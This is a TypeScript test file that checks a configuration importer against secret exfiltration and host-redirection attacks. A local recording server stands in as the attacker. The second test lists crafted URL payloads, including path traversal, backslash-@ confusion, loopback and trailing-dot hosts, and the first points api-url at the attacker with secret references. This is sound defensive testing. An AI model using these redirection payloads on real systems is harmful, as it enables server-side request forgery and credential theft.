import { join } from 'node:path'
import { hostKinds, startForge, type Forge, type HostKind } from '@groundplan/forge'
import { isolateGit, useTemporaryDirectories } from '@groundplan/testing'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { HostClients } from './host-clients.ts'
import { readHostSecrets } from './host-secrets.ts'
import { locateBlueprints } from './locate-blueprints.ts'
import { readImportConfiguration } from './read-import-configuration.ts'
import { startRecordingServer, type RecordingServer } from './recording-server.fixture.ts'

isolateGit()
const temporaryDirectory = useTemporaryDirectories()
let forge: Forge
let attacker: RecordingServer
beforeAll(async () => {
  forge = await startForge()
  attacker = await startRecordingServer()
})
afterAll(async () => {
  await forge.close()
  await attacker.close()
})

/** A blueprint repository at a host, in which a file waits on the branch of the first configuration. */
async function propose(kind: HostKind, owner: string, draft: (webUrl: string) => string) {
  const { webUrl, apiUrl, token } = forge.hosts[kind]
  await forge.people.createRepository({ owner, name: 'blueprints', files: { 'README.md': '' } })
  const text = draft(webUrl)
  const commit = { files: { 'groundplan.yaml': text }, branch: 'groundplan/configure' }
  await forge.people.commit(owner, 'blueprints', commit)
  const place = kind === 'bitbucket-data-center' ? `projects/${owner}/repos` : owner
  const address = `${webUrl}/${place}/blueprints`
  const access = { apiUrl, token, username: undefined, webhookSecret: undefined }
  const home = join(await temporaryDirectory(), 'home')
  const clients = new HostClients()
  const { hosted, open } = await locateBlueprints({ home, blueprints: { address, kind, ...access } })
  const repository = await open()
  // The operator has even allowed the secret there: what counts is that nobody has merged the file.
  const secrets = readHostSecrets({
    GROUNDPLAN_SECRET_CANARY: 'CANARY',
    GROUNDPLAN_SECRET_CANARY_ORIGINS: `${attacker.origin},${new URL(webUrl).origin},${new URL(apiUrl).origin}`,
  })
  const publicUrl = 'http://localhost:1'
  return readImportConfiguration({ repository, hosted, secrets, clients, publicUrl, now: () => new Date() })
}

/** Asks every host that is left for its repositories, as an import does. */
async function listAll({ selections }: Awaited<ReturnType<typeof readImportConfiguration>>) {
  const outcomes: string[] = []
  for (const { openHost, owner } of selections) {
    try {
      for await (const page of (await openHost()).repositories.listRepositories(owner))
        outcomes.push(...page.map(({ name }) => name))
    } catch (error) {
      outcomes.push(String(error))
    }
  }
  return outcomes
}

const file = (hosts: string, owner: string) =>
  `version: 1\nhosts: { here: ${hosts} }\nrepositories: [{ host: here, owner: ${owner} }]\n`
const secret = '{ env: GROUNDPLAN_SECRET_CANARY }'

describe.each(hostKinds)('a configuration that waits at %s', (kind) => {
  it("is read with the server's own access, whatever it says of addresses and secrets", async () => {
    const owner = `READ${kind.replaceAll('-', '').toUpperCase()}`
    const more = kind === 'bitbucket-cloud' ? `, username: ${secret}` : ''
    const configuration = await propose(kind, owner, (webUrl) =>
      file(
        `{ kind: ${kind}, url: "${webUrl}/", api-url: "${attacker.origin}/x", token: ${secret}, webhook-secret: ${secret}${more} }`,
        owner,
      ),
    )
    expect(await listAll(configuration)).toContain('blueprints')
    expect(attacker.requests).toEqual([])
    expect(configuration.webhooks?.review).toBeUndefined()
    expect(configuration.webhooks?.findSource('here')).toBeUndefined()
    const shown = configuration.onboarding?.secrets?.join('\n')
    expect(shown).toContain(`\`here\`: Sends secret GROUNDPLAN_SECRET_CANARY to `)
    expect(shown).toContain(attacker.origin)
    expect(JSON.stringify(configuration)).not.toContain('CANARY"')
  })

  it('reaches no other host, however its address is written', async () => {
    const { host, port, pathname } = new URL(forge.hosts[kind].webUrl)
    const path = pathname === '/' ? '' : pathname
    const there = new URL(attacker.origin).host
    const addresses = [
      `${attacker.origin}${path}`,
      `http://${there}/../${host}${path}`,
      `http://localhost:${port}${path}`,
      `http://localhost.:${port}${path}`,
      `http://127.0.0.1:${new URL(attacker.origin).port}${path}`,
      `http://${host}${path}/../../..//${there}`,
      `http://${host}\\\\@${there}${path}`,
      `HTTP://${there.toUpperCase()}${path}`,
    ]
    for (const [index, address] of addresses.entries()) {
      const owner = `ACME${kind.replaceAll('-', '').toUpperCase()}${index}`
      const draft = propose(kind, owner, () =>
        file(`{ kind: ${kind}, url: "${address}", token: ${secret} }`, owner),
      )
      const found = await draft.then(listAll, (error: unknown) => [String(error)])
      expect(
        found.filter((name) => name === 'blueprints'),
        address,
      ).toEqual([])
    }
    expect(attacker.requests).toEqual([])
  })
})
